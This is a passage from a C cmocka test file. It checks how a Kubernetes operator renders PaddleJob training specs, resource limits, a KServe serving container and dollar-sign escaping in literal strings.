    assert_string_equal(str(get(c, "resources", "limits", "memory", NULL)), "32Gi");
    /* the GPUs the spec asks for stay */
    assert_int_equal(json_integer_value(get(c, "resources", "limits", "nvidia.com/gpu", NULL)), 1);
    json_decref(children);

    /* requests and limits for every container, a role's over them */
    json_decref(res);
    res = json_loads("{\"requests\": {\"cpu\": \"250m\", \"memory\": \"1Gi\"}, \"limits\": {\"memory\": \"64Gi\"}, "
                     "\"worker\": {\"requests\": {\"memory\": \"16Gi\"}}}", 0, NULL);
    st.pod.resources = res;
    children = render_under(training("{\"gpuPerNode\": 2, \"pretrainModel\": \"https://h.example/a/m.pdparams\"}"), &st);
    tpl = get(child(children, "PaddleJob", "ppocr"), "spec", "worker", "template", NULL);
    c = container(get(tpl, "spec", NULL), "containers", "paddle");
    assert_string_equal(str(get(c, "resources", "requests", "cpu", NULL)), "250m");
    assert_string_equal(str(get(c, "resources", "requests", "memory", NULL)), "16Gi");
    assert_string_equal(str(get(c, "resources", "limits", "memory", NULL)), "64Gi");
    assert_int_equal(json_integer_value(get(c, "resources", "limits", "nvidia.com/gpu", NULL)), 2);
    init = container(get(tpl, "spec", NULL), "initContainers", "pretrain-model");
    assert_string_equal(str(get(init, "resources", "requests", "memory", NULL)), "1Gi");
    assert_string_equal(str(get(init, "resources", "limits", "memory", NULL)), "64Gi");
    json_decref(children);
    json_decref(tol);
    json_decref(ann);
    json_decref(labels);
    json_decref(res);
}

static void test_serving(void **state)
{
    json_t *children = render(cr("Serving", "ocr", "{\"image\": \"registry.example/serving:v0.6.2\","
                                                   " \"modelName\": \"ppocr\", \"modelVersion\": \"v3\"}"));
    json_t *isvc = child(children, "InferenceService", "ocr");
    json_t *c = json_array_get(get(isvc, "spec", "predictor", "containers", NULL), 0);
    const char *cmd[] = { "python3", "-m", "paddle_serving_server.serve" };
    const char *args[] = { "--model", "/mnt/models/ppocr/server", "--port", "8040" };

    (void)state;
    assert_string_equal(str(get(isvc, "apiVersion", NULL)), "serving.kserve.io/v1beta1");
    assert_int_equal(json_integer_value(get(isvc, "spec", "predictor", "minReplicas", NULL)), 1);
    assert_string_equal(str(json_object_get(c, "name")), "kserve-container");
    for (size_t i = 0; i < 3; i++)
        assert_string_equal(str(json_array_get(json_object_get(c, "command"), i)), cmd[i]);
    for (size_t i = 0; i < 4; i++)
        assert_string_equal(str(json_array_get(json_object_get(c, "args"), i)), args[i]);
    assert_int_equal(json_integer_value(get(json_array_get(json_object_get(c, "ports"), 0), "containerPort", NULL)),
                     8040);
    assert_string_equal(str(get(json_array_get(json_object_get(c, "ports"), 0), "protocol", NULL)), "TCP");
    assert_string_equal(str(get(json_array_get(json_object_get(c, "env"), 0), "value", NULL)),
                        "http://minio-service.kubeflow:9000/model-center/ppocr/v3/ppocr.tar.gz");
    json_decref(children);
}

static void test_children_literal(void **state)
{
    const char *cases[][2] = { { "plain", "plain" }, { "$(X)", "$$(X)" }, { "$$", "$$$$" }, { "a$b$", "a$$b$$" } };

    struct node_pool pool;

    (void)state;
    node_pool_begin(&pool);
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        struct node *v = children_literal(cases[i][0]);

        assert_int_equal(v->type, NODE_STRING);
        assert_string_equal(v->u.str.s, cases[i][1]);
        assert_int_equal(v->u.str.len, strlen(cases[i][1]));
    }
    node_pool_end(&pool);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_paddlejob_gpu),
        cmocka_unit_test(test_paddlejob_cpu_and_ps),
        cmocka_unit_test(test_overrides_generated),
        cmocka_unit_test(test_pretrain),
        cmocka_unit_test(test_visualdl),
        cmocka_unit_test(test_export_convert),
        cmocka_unit_test(test_project_clas),
        cmocka_unit_test(test_project_detection),
        cmocka_unit_test(test_reserved_and_unknown_project),
        cmocka_unit_test(test_hostile_text_is_inert),
        cmocka_unit_test(test_dataset),
        cmocka_unit_test(test_modelhub),
        cmocka_unit_test(test_serving),
        cmocka_unit_test(test_kubeflow_paddlejob),
        cmocka_unit_test(test_kubeflow_dataset),
        cmocka_unit_test(test_pod_settings),
        cmocka_unit_test(test_children_literal),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
